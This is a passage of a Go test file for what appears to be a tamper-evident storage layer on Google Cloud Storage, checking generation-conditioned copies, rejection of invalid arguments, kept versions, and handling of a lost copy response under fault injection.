	assert.Greater(t, got.Generation, bad.Generation)
	assert.Equal(t, want, got.Meta, "exactly the metadata asked for: nothing kept from the source")
	assert.EqualValues(t, len(big), got.Size)
	assert.Less(t, p.Stats().BytesOut+p.Stats().BytesIn, int64(64<<10), "no object bytes through the client")

	live, err := st.Attrs(ctx, bucket, "x", 0)
	require.NoError(t, err)
	assert.Equal(t, got.Generation, live.Generation)
	assert.Equal(t, want, live.Meta)
	assert.Equal(t, big, readAll(t, st, "x", got.Generation))
	vs, err := st.Versions(ctx, bucket, "x")
	require.NoError(t, err)
	assert.Len(t, vs, 3, "the overwritten generation is kept (noncurrent)")
}

func TestCopyConditions(t *testing.T) {
	_, st := setup(t)
	ctx := context.Background()
	g1 := write(t, st, "x", create, "one")
	g2 := write(t, st, "x", over(g1.Generation), "two")
	meta := engine.Metadata{ContentType: "text/plain"}

	_, err := st.Copy(ctx, ref(bucket, "x", g1.Generation), ref(bucket, "x", 0), over(g1.Generation), meta)
	assert.ErrorIs(t, err, engine.ErrPrecondition, "the destination's live generation is not g1")
	assert.Contains(t, err.Error(), fmt.Sprintf(`gcs: copy gs://tg-test/"x"#new [ifGenerationMatch=%d sourceGeneration=%d]`, g1.Generation, g1.Generation))
	_, err = st.Copy(ctx, ref(bucket, "x", g1.Generation), ref(bucket, "x", 0), create, meta)
	assert.ErrorIs(t, err, engine.ErrPrecondition, "DoesNotExist while something is live")
	_, err = st.Copy(ctx, ref(bucket, "x", g2.Generation+999), ref(bucket, "x", 0), over(g2.Generation), meta)
	assert.ErrorIs(t, err, engine.ErrObjectNotFound, "no such source generation")

	for name, c := range map[string]struct {
		src, dst gsref.ObjectRef
		cond     engine.Condition
		want     error
	}{
		"unconditional":         {ref(bucket, "x", g1.Generation), ref(bucket, "x", 0), engine.Condition{}, gcs.ErrUnconditional},
		"source without number": {ref(bucket, "x", 0), ref(bucket, "x", 0), over(g2.Generation), gcs.ErrInvalidArgument},
		"destination numbered":  {ref(bucket, "x", g1.Generation), ref(bucket, "x", g2.Generation), over(g2.Generation), gcs.ErrInvalidArgument},
		"bad name":              {ref(bucket, "x", g1.Generation), ref(bucket, "a\nb", 0), create, gcs.ErrInvalidArgument},
	} {
		_, err := st.Copy(ctx, c.src, c.dst, c.cond, meta)
		assert.ErrorIs(t, err, c.want, name)
	}
	vs, err := st.Versions(ctx, bucket, "x")
	require.NoError(t, err)
	assert.Len(t, vs, 2, "refused copies created nothing")

	// Into a place where nothing is live (DoesNotExist), and into another bucket.
	require.NoError(t, st.Delete(ctx, bucket, "x", over(g2.Generation)))
	got, err := st.Copy(ctx, ref(bucket, "x", g1.Generation), ref(bucket, "x", 0), create, meta)
	require.NoError(t, err)
	assert.Equal(t, "one", readAll(t, st, "x", got.Generation))
	got, err = st.Copy(ctx, ref(bucket, "x", g2.Generation), ref(bucket, "evidence/x/2", 0), create, meta)
	require.NoError(t, err)
	assert.Equal(t, "two", readAll(t, st, "evidence/x/2", got.Generation))
}

// A lost answer to a conditional copy: the SDK's retry meets the precondition, which is
// what the engine tells apart by the marker it asked for.
func TestCopyLostResponseIsAPrecondition(t *testing.T) {
	s, st := setup(t)
	ctx := context.Background()
	g1 := write(t, st, "x", create, "one")
	g2 := write(t, st, "x", over(g1.Generation), "two")
	p, client := s.WithFaults(t)
	p.Add(faultproxy.Rule{Match: s.Match(gcstest.OpCopy, bucket, "x"), When: faultproxy.Nth(1), Fault: faultproxy.LoseResponse()})
	_, err := gcs.New(client).Copy(ctx, ref(bucket, "x", g1.Generation), ref(bucket, "x", 0), over(g2.Generation),
		engine.Metadata{ContentType: "text/plain", Custom: map[string]string{"tamperguard-incident": "k"}})
	assert.ErrorIs(t, err, engine.ErrPrecondition)
	live, err := st.Attrs(ctx, bucket, "x", 0)
	require.NoError(t, err)
	assert.Equal(t, "k", live.Meta.Custom["tamperguard-incident"], "committed all the same")
}
